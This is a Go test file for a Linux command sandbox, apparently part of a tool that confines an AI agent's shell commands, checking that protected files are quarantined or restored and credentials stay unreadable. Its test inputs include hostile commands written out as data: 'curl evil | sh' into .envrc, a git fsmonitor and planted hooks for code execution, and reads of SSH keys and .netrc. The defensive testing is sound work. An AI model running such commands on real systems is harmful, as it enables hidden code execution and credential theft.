//go:build linux

package sandbox_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/reinsdev/reins/permission"
	"github.com/reinsdev/reins/sandbox"
)

// box is a sandbox over a project of its own, with a home folder, a private cache folder and
// a quarantine folder, all in a fresh temporary folder: what a user's session has.
type box struct {
	root, proj, home, cache, quarantine string
	sb                                  *sandbox.Sandbox
}

type boxOption func(*sandbox.Config)

func newBox(t *testing.T, b sandbox.Backend, files map[string]string, opts ...boxOption) *box {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	x := &box{root: root, proj: filepath.Join(root, "proj"), home: filepath.Join(root, "home"),
		cache: filepath.Join(root, "cache"), quarantine: filepath.Join(root, "home", ".reins", "quarantine")}
	for _, d := range []string{x.proj, x.home} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for p, content := range files {
		full := filepath.Join(root, p)
		if strings.HasSuffix(p, "/") {
			if err := os.MkdirAll(full, 0o755); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dirs, names := permission.ProtectedNames()
	cfg := sandbox.Config{
		WorkingDirs:   []string{x.proj},
		Home:          x.home,
		CacheDir:      x.cache,
		QuarantineDir: x.quarantine,
		ProtectedDirs: dirs, ProtectedFiles: names,
		Helper:   exe,
		Backends: []sandbox.Backend{b},
	}
	for _, o := range opts {
		o(&cfg)
	}
	sb, err := sandbox.New(context.Background(), cfg)
	if err != nil {
		t.Fatalf("sandbox.New: %v", err)
	}
	t.Cleanup(func() { sb.Close() })
	x.sb = sb
	return x
}

// run runs a bash command sandboxed in the project (or dir, relative to it) with HOME set to
// the box's home and a git identity, and returns its output, exit status and violations.
func (x *box) run(t *testing.T, command string) (string, int, []string) {
	t.Helper()
	return x.runIn(t, "", command)
}

func (x *box) runIn(t *testing.T, dir, command string) (string, int, []string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "/bin/bash", "-c", command)
	cmd.Dir = filepath.Join(x.proj, dir)
	cmd.Env = append(os.Environ(), "HOME="+x.home, "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com",
		"GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com", "XDG_CACHE_HOME=", "XDG_CONFIG_HOME=")
	finish, err := x.sb.Wrap(cmd, command, nil, nil)
	if err != nil {
		t.Fatalf("Wrap: %v", err)
	}
	out, err := cmd.CombinedOutput()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("running %q: %v", command, err)
	}
	return string(out), code, finish(string(out))
}

// listing lists every entry under dir with its type, size and content hash, to compare trees
// byte for byte. Entries under skip (relative names) are left out.
func listing(t *testing.T, dir string, skip ...string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		for _, s := range skip {
			if rel == s || strings.HasPrefix(rel, s+"/") {
				if fi.IsDir() {
					return filepath.SkipDir
				}
				return nil
			}
		}
		v := fi.Mode().String()
		if fi.Mode().IsRegular() {
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			v += fmt.Sprintf(" %d %q", len(b), b)
		}
		out[rel] = v
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func diffListings(before, after map[string]string) []string {
	var d []string
	for k, v := range before {
		if w, ok := after[k]; !ok {
			d = append(d, "- "+k)
		} else if w != v {
			d = append(d, "~ "+k+": "+v+" → "+w)
		}
	}
	for k := range after {
		if _, ok := before[k]; !ok {
			d = append(d, "+ "+k)
		}
	}
	slices.Sort(d)
	return d
}

func needGit(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
}

// TestStandInsNobodySees: protecting the protected names a project lacks (.git, .envrc,
// .bashrc, .claude, …) leaves nothing for the command's own tools to see, nor for the host
// while the command runs, and `git init && git add -A && git commit` commits only the
// project's files.
func TestStandInsNobodySees(t *testing.T) {
	if testing.Short() {
		t.Skip("runs commands under each backend: -short leaves it out; the whole suite runs it")
	}
	needGit(t)
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			x := newBox(t, backendFor(t, name), map[string]string{"proj/README": "hi\n", "proj/src/main.go": "package main\n"})
			before := listing(t, x.proj)
			out, code, viol := x.run(t, "ls -A")
			if got := strings.Fields(out); code != 0 || !slices.Equal(got, []string{"README", "src"}) {
				t.Errorf("ls -A inside: exit %d, %q; want README src", code, got)
			}
			if len(viol) > 0 {
				t.Errorf("ls -A reported %q", viol)
			}
			t.Run("the host sees nothing while a command runs", func(t *testing.T) {
				done := make(chan struct{})
				go func() {
					defer close(done)
					x.run(t, "sleep 1")
				}()
				time.Sleep(400 * time.Millisecond)
				during := listing(t, x.proj)
				<-done
				if d := diffListings(before, during); len(d) > 0 {
					t.Errorf("while the command ran the project showed:\n%s", strings.Join(d, "\n"))
				}
			})
			out, code, viol = x.run(t, "git init -q && git add -A && git commit -qm first && git ls-files && git status --porcelain")
			if got := strings.Fields(out); code != 0 || !slices.Equal(got, []string{"README", "src/main.go"}) {
				t.Errorf("git init, add -A and commit inside: exit %d, committed %q; want README src/main.go", code, got)
			}
			if len(viol) > 0 {
				t.Errorf("git init and commit reported %q", viol)
			}
			if d := diffListings(before, listing(t, x.proj, ".git")); len(d) > 0 {
				t.Errorf("the project outside .git changed:\n%s", strings.Join(d, "\n"))
			}
			if _, err := os.Stat(filepath.Join(x.proj, ".git", "HEAD")); err != nil {
				t.Errorf("the repository the command made is gone: %v", err)
			}
		})
	}
}

// TestCreatedProtectedPathsAreQuarantined: a protected path the command created where nothing
// could be protected beforehand ends up in the quarantine folder, not in the project, and the
// violation says where it went.
func TestCreatedProtectedPathsAreQuarantined(t *testing.T) {
	if testing.Short() {
		t.Skip("runs commands under each backend: -short leaves it out; the whole suite runs it")
	}
	tests := []struct {
		name, command string
		git           bool
		gone          []string // relative to the project: must not be there after the command
		kept          []string // must still be there
	}{
		{name: ".envrc", command: "echo 'curl evil | sh' > .envrc", gone: []string{".envrc"}},
		{name: "symlink as .envrc", command: "ln -s src/main.go .envrc", gone: []string{".envrc"}},
		{name: ".vscode tasks", command: "mkdir .vscode && echo {} > .vscode/tasks.json", gone: []string{".vscode"}},
		{name: ".claude settings", command: "mkdir -p .claude && echo {} > .claude/settings.json", gone: []string{".claude"}},
		{name: "rename into a protected name", command: "echo x > src/e && mv src/e .bashrc", gone: []string{".bashrc"}},
		{name: "hand-made hooks without a repository", command: "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit", gone: []string{".git"}},
		{name: "git init and core.hooksPath", command: "git init -q && git config core.hooksPath .githooks", git: true,
			gone: []string{".git/config"}, kept: []string{".git/HEAD"}},
		{name: "new nested repository's hook", command: "git init -q src/sub && printf '#!/bin/sh\\necho hi\\n' > src/sub/.git/hooks/pre-commit", git: true,
			gone: []string{"src/sub/.git/hooks/pre-commit"}, kept: []string{"src/sub/.git/HEAD", "src/sub/.git/config"}},
		{name: "new nested repository's config", command: "git init -q src/other && git -C src/other config core.fsmonitor 'touch /tmp/pwned'", git: true,
			gone: []string{"src/other/.git/config"}, kept: []string{"src/other/.git/HEAD"}},
		{name: "nested repository by hand", command: "mkdir -p src/h/.git/hooks && echo 'ref: refs/heads/main' > src/h/.git/HEAD && echo x > src/h/.git/hooks/post-checkout",
			gone: []string{"src/h/.git/hooks/post-checkout"}},
	}
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			b := backendFor(t, name)
			for _, tt := range tests {
				t.Run(tt.name, func(t *testing.T) {
					if tt.git {
						needGit(t)
					}
					x := newBox(t, b, map[string]string{"proj/src/main.go": "package main\n"})
					out, code, viol := x.run(t, tt.command)
					joined := strings.Join(viol, "\n")
					for _, g := range tt.gone {
						p := filepath.Join(x.proj, g)
						if _, err := os.Lstat(p); err == nil {
							t.Errorf("%q (exit %d, %s): %s is still in the project", tt.command, code, out, g)
						}
						if !strings.Contains(joined, p) || !strings.Contains(joined, x.quarantine) {
							t.Errorf("violations %q do not name %s and where it went (%s)", viol, p, x.quarantine)
						}
					}
					for _, k := range tt.kept {
						if _, err := os.Lstat(filepath.Join(x.proj, k)); err != nil {
							t.Errorf("%q: %s was moved too: %v", tt.command, k, err)
						}
					}
					if code == 0 && len(tt.gone) > 0 {
						// What the command made is kept where the person can inspect it.
						found := false
						filepath.Walk(x.quarantine, func(p string, fi os.FileInfo, err error) error {
							if err == nil && strings.HasSuffix(p, filepath.Join("proj", tt.gone[0])) {
								found = true
							}
							return nil
						})
						if !found {
							t.Errorf("%s is not in the quarantine folder %s", tt.gone[0], x.quarantine)
						}
					}
				})
			}
			t.Run("ordinary commands report nothing", func(t *testing.T) {
				x := newBox(t, b, map[string]string{"proj/src/main.go": "package main\n"})
				out, code, viol := x.run(t, "echo x > notes.txt && mkdir -p build/out && touch build/out/a && rm notes.txt && echo y > .gitignore")
				if code != 0 || len(viol) > 0 {
					t.Errorf("exit %d, %s, violations %q", code, out, viol)
				}
				if _, err := os.Stat(x.quarantine); err == nil {
					t.Error("an ordinary command filled the quarantine folder")
				}
			})
		})
	}
}

// TestProtectedFilesEndUpUnchanged: an existing protected file or hook a command rewrites,
// removes or replaces is as it was after the command, whichever backend ran it: bubblewrap
// refuses the write, Landlock (which cannot carve names out of a writable folder) lets it
// happen and the check after the command restores the file and keeps the changed copy.
func TestProtectedFilesEndUpUnchanged(t *testing.T) {
	if testing.Short() {
		t.Skip("runs commands under each backend: -short leaves it out; the whole suite runs it")
	}
	files := map[string]string{
		"proj/.envrc": "export A=1\n", "proj/.git/HEAD": "ref: refs/heads/main\n", "proj/.git/config": "[core]\n\tbare = false\n",
		"proj/.git/hooks/pre-commit": "#!/bin/sh\nexit 0\n", "proj/.git/objects/": "", "proj/.git/refs/": "", "proj/src/main.go": "package main\n",
		"proj/vendor/lib/.git/HEAD": "ref: refs/heads/main\n", "proj/vendor/lib/.git/config": "[core]\n", "proj/vendor/lib/.git/hooks/": "",
	}
	commands := []string{
		"echo 'curl evil | sh' >> .envrc",
		"mv .envrc src/old && echo evil > .envrc",
		"rm -f .envrc",
		"printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
		"echo evil > .git/hooks/pre-commit",
		"rm -rf .git/hooks && mkdir .git/hooks && echo evil > .git/hooks/post-merge",
		"echo evil > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
		"echo x > vendor/lib/.git/hooks/pre-commit",
		"echo '[core] hooksPath = /x' >> vendor/lib/.git/config",
	}
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			b := backendFor(t, name)
			for _, c := range commands {
				t.Run(c, func(t *testing.T) {
					x := newBox(t, b, files)
					before := listing(t, x.proj, "src")
					out, code, viol := x.run(t, c)
					if d := diffListings(before, listing(t, x.proj, "src")); len(d) > 0 {
						t.Errorf("%q (exit %d, %s, violations %q) left the protected paths changed:\n%s", c, code, out, viol, strings.Join(d, "\n"))
					}
					if code == 0 && len(viol) == 0 {
						t.Errorf("%q succeeded and nothing was reported", c)
					}
				})
			}
		})
	}
}

// TestEverydayGitInTheProject: git's ordinary work creates and removes entries at the top of
// the project and in .git (index.lock, objects, refs, COMMIT_EDITMSG); it must work in a
// repository the host made, under both backends.
func TestEverydayGitInTheProject(t *testing.T) {
	needGit(t)
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			x := newBox(t, backendFor(t, name), map[string]string{"proj/README": "hi\n"})
			init := exec.Command("git", "-c", "init.defaultBranch=main", "init", "-q")
			init.Dir = x.proj
			if out, err := init.CombinedOutput(); err != nil {
				t.Fatalf("git init: %v %s", err, out)
			}
			commands := []string{
				"git add -A && git commit -qm first",
				"echo more >> README && echo new > NEW && git add -A && git commit -qm second",
				"git log --oneline | wc -l | tr -d ' '",
				"git diff HEAD~1 --stat",
				"git rm -q NEW && git commit -qm third && git status --porcelain",
				"git checkout -q -b topic && git checkout -q main && git branch -D topic",
				"git stash list",
			}
			for _, c := range commands {
				if out, code, viol := x.run(t, c); code != 0 || len(viol) > 0 {
					t.Errorf("%q: exit %d, %s, violations %q", c, code, out, viol)
				}
			}
			if out, _, _ := x.run(t, "git log --format=%s"); strings.Fields(out)[0] != "third" {
				t.Errorf("git log: %s", out)
			}
		})
	}
}

// TestPrivateTmp: /tmp inside is the session's own (under bubblewrap), TMPDIR is private, and
// allowWrite //tmp makes the host's /tmp writable.
func TestPrivateTmp(t *testing.T) {
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			b := backendFor(t, name)
			x := newBox(t, b, nil)
			marker := fmt.Sprintf("reins-private-tmp-%d-%s", os.Getpid(), name)
			out, code, _ := x.run(t, `f=$(mktemp) && echo ok > "$f" && cat "$f" && echo "$TMPDIR"`)
			if code != 0 || !strings.HasPrefix(out, "ok\n") {
				t.Errorf("a file in TMPDIR: exit %d, %s", code, out)
			}
			if name == "bubblewrap" {
				out, code, _ := x.run(t, "echo ok > /tmp/"+marker+" && cat /tmp/"+marker)
				if code != 0 || out != "ok\n" {
					t.Errorf("a write to /tmp: exit %d, %s", code, out)
				}
				if _, err := os.Stat(filepath.Join("/tmp", marker)); err == nil {
					os.Remove(filepath.Join("/tmp", marker))
					t.Error("the write to the private /tmp reached the host's /tmp")
				}
				y := newBox(t, b, nil)
				if out, code, _ := y.run(t, "cat /tmp/"+marker); code == 0 {
					t.Errorf("another session saw this session's /tmp: %s", out)
				}
			}
			t.Run("allowWrite //tmp", func(t *testing.T) {
				// The quarantine must lie outside every writable folder, and this box's home is
				// in /tmp.
				q, err := os.MkdirTemp("/var/tmp", "reins-quarantine-")
				if err != nil {
					t.Skip("no /var/tmp for the quarantine:", err)
				}
				t.Cleanup(func() { os.RemoveAll(q) })
				x := newBox(t, b, nil, func(c *sandbox.Config) {
					c.AllowWrite, c.QuarantineDir = []sandbox.Path{{Path: "/tmp", Origin: "test"}}, q
				})
				p := filepath.Join("/tmp", marker+"-allowed")
				defer os.Remove(p)
				if out, code, _ := x.run(t, "echo ok > "+p); code != 0 {
					t.Errorf("allowWrite //tmp: exit %d, %s", code, out)
				}
				if b, err := os.ReadFile(p); err != nil || string(b) != "ok\n" {
					t.Errorf("the host's /tmp: %q, %v", b, err)
				}
			})
		})
	}
}

// TestLoopbackBypassesTheProxy: NO_PROXY names loopback, so that a local test server is
// reached directly; under bubblewrap the server and its client share the sandbox's own
// loopback.
func TestLoopbackBypassesTheProxy(t *testing.T) {
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			x := newBox(t, backendFor(t, name), nil)
			out, _, _ := x.run(t, `echo "$NO_PROXY|$no_proxy"`)
			for _, h := range []string{"localhost", "127.0.0.1", "::1"} {
				for _, v := range strings.Split(strings.TrimSpace(out), "|") {
					if !slices.Contains(strings.Split(v, ","), h) {
						t.Errorf("NO_PROXY/no_proxy %q lack %s", out, h)
					}
				}
			}
			if name != "bubblewrap" {
				return // Landlock cannot let a command listen without opening the host's network (docs/security.md)
			}
			if _, err := exec.LookPath("curl"); err != nil {
				t.Skip("curl is not installed")
			}
			script := `python3 -m http.server --bind 127.0.0.1 8765 >/dev/null 2>&1 & 
for i in $(seq 50); do curl -sf http://127.0.0.1:8765/ >/dev/null && break; sleep 0.1; done
curl -sSf --max-time 10 http://localhost:8765/ | head -c 15; kill %1`
			out, code, viol := x.run(t, script)
			if code != 0 || !strings.Contains(out, "<!DOCTYPE") {
				t.Errorf("a local server reached with curl: exit %d, %q, violations %q", code, out, viol)
			}
		})
	}
}

// TestToolchainCachesArePrivate: the build caches a sandboxed build writes are the session's
// own, never the host's (a poisoned host cache would run outside the sandbox later).
func TestToolchainCachesArePrivate(t *testing.T) {
	if _, err := exec.LookPath("go"); err != nil {
		t.Skip("go is not on PATH")
	}
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			x := newBox(t, backendFor(t, name), map[string]string{"home/.cache/go-build/README": "host cache\n", "home/go/pkg/mod/cache/download/": ""})
			out, code, _ := x.run(t, `go env GOCACHE GOMODCACHE; echo "$npm_config_cache"; echo "$PIP_CACHE_DIR"; echo "$CARGO_HOME"; echo "$XDG_CACHE_HOME"; touch "$(go env GOCACHE)/probe"`)
			lines := strings.Split(strings.TrimSpace(out), "\n")
			if code != 0 || len(lines) != 6 {
				t.Fatalf("exit %d: %q", code, lines)
			}
			for _, l := range lines {
				if !strings.HasPrefix(l, x.cache+"/") {
					t.Errorf("%s is not under the private cache folder %s", l, x.cache)
				}
			}
			if _, code, _ := x.run(t, "touch ~/.cache/go-build/poisoned"); code == 0 {
				t.Error("the host's build cache is writable")
			}
			if _, err := os.Stat(filepath.Join(x.home, ".cache/go-build/poisoned")); err == nil {
				t.Error("the host's build cache was written")
			}
			if out, _, _ := x.run(t, "go env GOPROXY"); !strings.HasPrefix(out, "file://"+filepath.Join(x.home, "go/pkg/mod/cache/download")+",") {
				t.Errorf("GOPROXY %q does not serve the host's module cache first", out)
			}
		})
	}
}

// TestUnixSocketsFiltered: a daemon's socket anywhere (the home folder, the project) cannot
// be connected to unless allowUnixSockets names it; socketpair, which pipes between a process
// and its children use, still works.
func TestUnixSocketsFiltered(t *testing.T) {
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is not installed")
	}
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			b := backendFor(t, name)
			root, _ := filepath.EvalSymlinks(t.TempDir())
			sock := filepath.Join(root, "home", ".docker", "run", "docker.sock")
			projSock := filepath.Join(root, "proj", "daemon.sock")
			for _, s := range []string{sock, projSock} {
				os.MkdirAll(filepath.Dir(s), 0o755)
				l, err := net.Listen("unix", s)
				if err != nil {
					t.Fatal(err)
				}
				srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "daemon says hi") })}
				go srv.Serve(l)
				t.Cleanup(func() { srv.Close() })
			}
			x := newBoxAt(t, b, root, nil)
			for _, s := range []string{sock, projSock} {
				out, code, _ := x.run(t, "curl -sS --max-time 10 --unix-socket "+s+" http://daemon/")
				if code == 0 || strings.Contains(out, "daemon says hi") {
					t.Errorf("reached the unlisted socket %s: %s", s, out)
				}
			}
			out, code, _ := x.run(t, `python3 -c "import socket; a, b = socket.socketpair(); a.send(b'pair'); print(b.recv(4).decode())"`)
			if code != 0 || out != "pair\n" {
				t.Errorf("socketpair: exit %d, %q", code, out)
			}
			y := newBoxAt(t, b, root, nil, func(c *sandbox.Config) { c.AllowUnixSockets = []string{sock} })
			if out, code, _ := y.run(t, "curl -sS --max-time 10 --unix-socket "+sock+" http://daemon/"); code != 0 || out != "daemon says hi" {
				t.Errorf("the listed socket: exit %d, %q", code, out)
			}
		})
	}
}

// newBoxAt is newBox in an existing folder.
func newBoxAt(t *testing.T, b sandbox.Backend, root string, files map[string]string, opts ...boxOption) *box {
	t.Helper()
	exe, _ := os.Executable()
	x := &box{root: root, proj: filepath.Join(root, "proj"), home: filepath.Join(root, "home"),
		cache: filepath.Join(root, "cache"), quarantine: filepath.Join(root, "home", ".reins", "quarantine")}
	os.MkdirAll(x.proj, 0o755)
	os.MkdirAll(x.home, 0o755)
	dirs, names := permission.ProtectedNames()
	cfg := sandbox.Config{WorkingDirs: []string{x.proj}, Home: x.home, CacheDir: x.cache, QuarantineDir: x.quarantine,
		ProtectedDirs: dirs, ProtectedFiles: names, Helper: exe, Backends: []sandbox.Backend{b}}
	for _, o := range opts {
		o(&cfg)
	}
	sb, err := sandbox.New(context.Background(), cfg)
	if err != nil {
		t.Fatalf("sandbox.New: %v", err)
	}
	t.Cleanup(func() { sb.Close() })
	x.sb = sb
	return x
}

// TestReadDeniedFilesLookUnreadable: a read-denied file reads as "permission denied", is a
// regular file to stat (never a device), and `git add -A` beside it does not stage an emptied
// or changed version of it; a denied credential folder in the home cannot be listed.
func TestReadDeniedFilesLookUnreadable(t *testing.T) {
	needGit(t)
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			root, _ := filepath.EvalSymlinks(t.TempDir())
			files := map[string]string{"proj/app.env": "TOKEN=hunter2\n", "proj/README": "hi\n", "proj/secrets/key": "hunter2\n",
				"home/.ssh/id_ed25519": "PRIVATE hunter2\n", "home/.netrc": "machine x password hunter2\n"}
			old := time.Now().Add(-time.Hour) // older than the index: git trusts their stat data
			for p, c := range files {
				os.MkdirAll(filepath.Dir(filepath.Join(root, p)), 0o755)
				os.WriteFile(filepath.Join(root, p), []byte(c), 0o600)
				os.Chtimes(filepath.Join(root, p), old, old)
			}
			git := func(args ...string) {
				cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@e"}, args...)...)
				cmd.Dir = filepath.Join(root, "proj")
				if out, err := cmd.CombinedOutput(); err != nil {
					t.Fatalf("git %v: %v %s", args, err, out)
				}
			}
			git("init", "-q")
			git("add", "-A")
			git("commit", "-qm", "tracked secrets")
			git("status", "--porcelain") // refreshes the index's stat data
			deny := []sandbox.Path{{Path: filepath.Join(root, "proj/app.env")}, {Path: filepath.Join(root, "proj/secrets")},
				{Path: filepath.Join(root, "home/.ssh")}, {Path: filepath.Join(root, "home/.netrc")}}
			x := newBoxAt(t, backendFor(t, name), root, nil, func(c *sandbox.Config) { c.DenyRead = deny })
			out, _, _ := x.run(t, "cat app.env secrets/key ~/.ssh/id_ed25519 ~/.netrc; ls ~/.ssh; stat -c %F app.env ~/.netrc")
			if strings.Contains(out, "hunter2") {
				t.Errorf("a denied file was read: %s", out)
			}
			// Landlock's right to list a folder covers the folders below it: the names in a
			// denied folder can be listed there, never read (docs/security.md).
			if name == "bubblewrap" && strings.Contains(out, "id_ed25519\n") {
				t.Errorf("the denied folder was listed: %s", out)
			}
			if strings.Contains(out, "character special") || strings.Count(out, "Permission denied") < 4 {
				t.Errorf("denied files must fail to open as regular files do:\n%s", out)
			}
			out, _, _ = x.run(t, "echo more >> README; git add -A 2>/dev/null; echo add=$?; git diff --cached --name-status")
			if strings.Contains(out, "app.env") || strings.Contains(out, "secrets/key") {
				t.Errorf("git add -A staged a changed denied file:\n%s", out)
			}
			// Under Landlock the denied file is the real one, whose stat data git trusts; under
			// bubblewrap it is a stand-in git cannot read, and `git add -A` says so and stages
			// nothing (docs/security.md).
			if name == "landlock" && (!strings.Contains(out, "add=0") || !strings.Contains(out, "README")) {
				t.Errorf("git add -A beside denied files did not stage the README:\n%s", out)
			}
		})
	}
}

// TestNoCapabilities: every capability set is empty inside, the bounding set included, even
// though the tests run as root.
func TestNoCapabilities(t *testing.T) {
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			x := newBox(t, backendFor(t, name), nil)
			out, code, _ := x.run(t, "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status")
			lines := strings.Split(strings.TrimSpace(out), "\n")
			if code != 0 || len(lines) != 5 {
				t.Fatalf("exit %d: %q", code, lines)
			}
			for _, l := range lines {
				if !strings.HasSuffix(l, "\t0000000000000000") {
					t.Errorf("capabilities left: %s", l)
				}
			}
		})
	}
}

// TestLingeringProcessesChangeNothingProtected: what a command leaves running in its process
// group (`job &`) may change protected paths after the command's check (under Landlock; under
// bubblewrap it dies with the sandbox): the next command puts them back first and says so.
func TestLingeringProcessesChangeNothingProtected(t *testing.T) {
	if testing.Short() {
		t.Skip("runs commands under each backend: -short leaves it out; the whole suite runs it")
	}
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			x := newBox(t, backendFor(t, name), map[string]string{"proj/.git/HEAD": "ref: refs/heads/main\n", "proj/.git/config": "[core]\n", "proj/.git/objects/": ""})
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			cmd := exec.CommandContext(ctx, "/bin/bash", "-c", "(sleep 1; echo '[core] fsmonitor = touch /tmp/pwned' >> .git/config; echo evil > .envrc) >/dev/null 2>&1 &")
			cmd.Dir, cmd.SysProcAttr = x.proj, &syscall.SysProcAttr{Setpgid: true}
			finish, err := x.sb.Wrap(cmd, "job &", nil, nil)
			if err != nil {
				t.Fatal(err)
			}
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%v: %s", err, out)
			}
			if viol := finish(""); len(viol) > 0 {
				t.Errorf("the command itself reported %q", viol)
			}
			defer syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
			time.Sleep(2 * time.Second) // the job has written by now, if it still could
			_, _, viol := x.run(t, "true")
			if b, _ := os.ReadFile(filepath.Join(x.proj, ".git", "config")); string(b) != "[core]\n" {
				t.Errorf(".git/config = %q after the next command (violations %q)", b, viol)
			}
			if _, err := os.Lstat(filepath.Join(x.proj, ".envrc")); err == nil {
				t.Errorf(".envrc is in the project after the next command (violations %q)", viol)
			}
			if name == "landlock" && !strings.Contains(strings.Join(viol, "\n"), "a process an earlier command left running") {
				t.Errorf("the next command's violations %q do not say what happened", viol)
			}
		})
	}
}

// TestHostChangesDuringACommand: under bubblewrap, whose mounts keep the protected paths, what
// the user's own tools write to one while a command runs (an editor saving .vscode/settings.json)
// stays; under Landlock it cannot be told from the command's and is put back (docs/security.md).
func TestHostChangesDuringACommand(t *testing.T) {
	x := newBox(t, backendFor(t, "bubblewrap"), map[string]string{"proj/.vscode/settings.json": "{}\n"})
	done := make(chan []string)
	go func() {
		_, _, viol := x.run(t, "sleep 1")
		done <- viol
	}()
	time.Sleep(300 * time.Millisecond)
	p := filepath.Join(x.proj, ".vscode", "settings.json")
	write(t, p, "{\"editor.tabSize\": 4}\n")
	if viol := <-done; len(viol) > 0 {
		t.Errorf("the host's change was reported: %q", viol)
	}
	if b, _ := os.ReadFile(p); string(b) != "{\"editor.tabSize\": 4}\n" {
		t.Errorf("the host's change was undone: %q", b)
	}
}

// TestHostCreatesBetweenCommands: a protected file the user creates between two commands,
// with nothing of the first still running, is the user's: the next command leaves it.
func TestHostCreatesBetweenCommands(t *testing.T) {
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			x := newBox(t, backendFor(t, name), nil)
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			cmd := exec.CommandContext(ctx, "/bin/bash", "-c", "true")
			cmd.Dir, cmd.SysProcAttr = x.proj, &syscall.SysProcAttr{Setpgid: true}
			finish, err := x.sb.Wrap(cmd, "true", nil, nil)
			if err != nil {
				t.Fatal(err)
			}
			cmd.Run()
			finish("")
			write(t, filepath.Join(x.proj, ".envrc"), "export MINE=1\n")
			if _, _, viol := x.run(t, "true"); len(viol) > 0 {
				t.Errorf("the user's .envrc was reported: %q", viol)
			}
			if b, _ := os.ReadFile(filepath.Join(x.proj, ".envrc")); string(b) != "export MINE=1\n" {
				t.Errorf(".envrc = %q", b)
			}
		})
	}
}

// TestReinsOwnWritesAreNotQuarantined: a settings file reins itself writes while a command
// runs (an answer's "always" saves a rule) and reports with Wrote stays where it is; the same
// write made behind reins's back — or changed again after Wrote — goes to the quarantine.
func TestReinsOwnWritesAreNotQuarantined(t *testing.T) {
	if testing.Short() {
		t.Skip("runs commands under each backend: -short leaves it out; the whole suite runs it")
	}
	for _, name := range backendNames {
		t.Run(name, func(t *testing.T) {
			for _, tc := range []struct {
				name        string
				wrote, more bool
				kept        bool
			}{
				{"reins wrote it", true, false, true},
				{"behind reins's back", false, false, false},
				{"changed after reins wrote it", true, true, false},
			} {
				t.Run(tc.name, func(t *testing.T) {
					x := newBox(t, backendFor(t, name), map[string]string{"proj/README": "hi\n"})
					local := filepath.Join(x.proj, ".reins", "settings.local.json")
					done := make(chan struct{})
					go func() {
						defer close(done)
						time.Sleep(300 * time.Millisecond) // the command is running
						os.MkdirAll(filepath.Dir(local), 0o755)
						os.WriteFile(local, []byte(`{"permissions":{"allow":["WebFetch(domain:example.com)"]}}`), 0o644)
						if tc.wrote {
							x.sb.Wrote(local)
						}
						if tc.more {
							os.WriteFile(local, []byte(`{"hooks":{}}`), 0o644)
						}
					}()
					_, code, viol := x.run(t, "sleep 1")
					<-done
					_, err := os.Stat(local)
					if code != 0 || (err == nil) != tc.kept {
						t.Errorf("exit %d; the file is there: %v, want %v; violations %q", code, err == nil, tc.kept, viol)
					}
					if tc.kept && len(viol) > 0 {
						t.Errorf("reins's own write was reported: %q", viol)
					}
				})
			}
		})
	}
}
